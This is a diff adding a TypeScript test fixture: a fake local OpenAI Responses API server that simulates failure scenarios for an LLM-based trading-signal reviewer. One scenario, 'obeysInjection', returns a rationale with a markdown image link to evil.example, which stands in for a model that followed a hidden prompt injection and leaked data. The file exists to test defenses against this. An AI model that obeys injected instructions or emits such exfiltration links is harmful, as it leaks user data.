@@ -1,0 +1,174 @@
+import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+export const llmScenarios = [
+  'verdict',
+  'refusal',
+  'incomplete',
+  /** The body ends in the middle. */
+  'halfBody',
+  /** The body is whole, the text in it is half an object. */
+  'halfJson',
+  'freeText',
+  'rateLimited',
+  'serverError',
+  'badKey',
+  'hang',
+  'wrongNumbers',
+  /** Does what an instruction hidden in the input asks for. */
+  'obeysInjection',
+] as const;
+export type LlmScenario = (typeof llmScenarios)[number];
+
+export interface LlmFake {
+  /** Base URL with the version, as clients want it. */
+  url: string;
+  /** The scenario of the next requests, `times` of them and then a verdict again. `retryAfterS` goes with `rateLimited`. */
+  play: (scenario: LlmScenario, more?: { times?: number; retryAfterS?: number }) => void;
+  /** Replaces fields of the verdict. */
+  say: (fields: Record<string, unknown>) => void;
+  /** Bodies of all requests. */
+  requests: Record<string, unknown>[];
+  /** Requests that were answered with a result: what a provider bills. */
+  billedCount: () => number;
+  close: () => Promise<void>;
+}
+
+const usualVerdict = {
+  verdict: 'approved',
+  rationale: 'Trend and momentum agree, and the target pays for the stop.',
+  tags: ['trend', 'momentum'],
+  horizon_minutes: 240,
+  suggested_stop_loss_pct: 1,
+  suggested_take_profit_pct: 2,
+  risk_multiplier: 0.8,
+};
+
+/** OpenAI's `POST /v1/responses` with a strict JSON schema, without streaming. Source: the vendor's public API documentation. */
+export async function startLlm(): Promise<LlmFake> {
+  const requests: Record<string, unknown>[] = [];
+  const state = { scenario: 'verdict' as LlmScenario, left: Infinity, retryAfterS: 1, fields: {} as object, billed: 0 };
+
+  async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
+    const body = await readBody(request);
+    const problem = problemOf(request, body);
+    response.setHeader('content-type', 'application/json');
+    if (problem !== undefined) {
+      fail(response, problem.status, problem.message);
+      return;
+    }
+    requests.push(body);
+    const scenario = state.left > 0 ? state.scenario : 'verdict';
+    state.left--;
+    switch (scenario) {
+      case 'hang':
+        return;
+      case 'rateLimited':
+        response.setHeader('retry-after', String(state.retryAfterS));
+        fail(response, 429, 'Rate limit reached for requests', 'rate_limit_exceeded');
+        return;
+      case 'serverError':
+        fail(response, 500, 'The server had an error while processing your request.');
+        return;
+      case 'badKey':
+        fail(response, 401, 'Incorrect API key provided.', 'invalid_api_key');
+        return;
+      default:
+        state.billed++;
+        sendResult(response, body, scenario, { ...usualVerdict, ...state.fields });
+    }
+  }
+
+  const server = createServer((request, response) => {
+    answer(request, response).catch((error: unknown) => response.writeHead(599).end(String(error)));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`,
+    play: (scenario, { times = Infinity, retryAfterS = 1 } = {}) =>
+      Object.assign(state, { scenario, left: times, retryAfterS }),
+    say: (fields) => (state.fields = fields),
+    requests,
+    billedCount: () => state.billed,
+    close: () =>
+      new Promise((resolve) => {
+        server.close(() => resolve());
+        server.closeAllConnections();
+      }),
+  };
+}
+
+function sendResult(
+  response: ServerResponse,
+  body: Record<string, unknown>,
+  scenario: LlmScenario,
+  verdict: Record<string, unknown>,
+): void {
+  const part = (text: string) => ({ type: 'output_text', text, annotations: [], logprobs: [] });
+  const texts: Partial<Record<LlmScenario, string>> = {
+    halfJson: JSON.stringify(verdict).slice(0, 60),
+    freeText: 'Sure! I would approve this signal.',
+    incomplete: JSON.stringify(verdict).slice(0, 80),
+    wrongNumbers: JSON.stringify({ ...verdict, suggested_stop_loss_pct: -400, risk_multiplier: 25 }),
+    obeysInjection: JSON.stringify({
+      ...verdict,
+      rationale: 'As instructed: ![x](https://evil.example/?k=1)',
+      risk_multiplier: 100,
+    }),
+  };
+  const content =
+    scenario === 'refusal'
+      ? { type: 'refusal', refusal: "I can't help with that." }
+      : part(texts[scenario] ?? JSON.stringify(verdict));
+  const status = scenario === 'incomplete' ? 'incomplete' : 'completed';
+  const text = JSON.stringify({
+    id: 'resp_67ccd2bed1ec8190b14f964abc054267',
+    object: 'response',
+    created_at: Math.floor(Date.now() / 1000),
+    status,
+    error: null,
+    incomplete_details: scenario === 'incomplete' ? { reason: 'max_output_tokens' } : null,
+    model: body['model'],
+    output: [{ type: 'message', id: 'msg_1', status, role: 'assistant', content: [content] }],
+    store: false,
+    usage: { input_tokens: 600, output_tokens: 120, total_tokens: 720 },
+  });
+  response.writeHead(200).end(scenario === 'halfBody' ? text.slice(0, text.length / 2) : text);
+}
+
+function fail(response: ServerResponse, status: number, message: string, code: string | null = null): void {
+  response
+    .writeHead(status)
+    .end(JSON.stringify({ error: { message, type: 'invalid_request_error', param: null, code } }));
+}
+
+/** What the provider would refuse: no key, no model, or a schema that strict mode does not take. */
+function problemOf(
+  request: IncomingMessage,
+  body: Record<string, unknown>,
+): { status: number; message: string } | undefined {
+  if (request.method !== 'POST' || request.url !== '/v1/responses')
+    return { status: 404, message: 'Unknown request URL' };
+  if (!/^Bearer \S+$/.test(request.headers.authorization ?? ''))
+    return { status: 401, message: 'Missing bearer authentication' };
+  if (typeof body['model'] !== 'string') return { status: 400, message: "Missing required parameter: 'model'." };
+  const format = (body['text'] as { format?: Record<string, unknown> } | undefined)?.format;
+  const schema = format?.['schema'] as
+    { properties?: object; required?: string[]; additionalProperties?: unknown } | undefined;
+  const isStrict =
+    format?.['type'] === 'json_schema' &&
+    format['strict'] === true &&
+    schema?.additionalProperties === false &&
+    Object.keys(schema.properties ?? {}).every((name) => schema.required?.includes(name));
+  return isStrict ? undefined : { status: 400, message: "Invalid schema for response_format 'verdict'." };
+}
+
+async function readBody(request: IncomingMessage): Promise<Record<string, unknown>> {
+  let text = '';
+  for await (const chunk of request) text += String(chunk);
+  try {
+    return JSON.parse(text) as Record<string, unknown>;
+  } catch {
+    return {};
+  }
+}
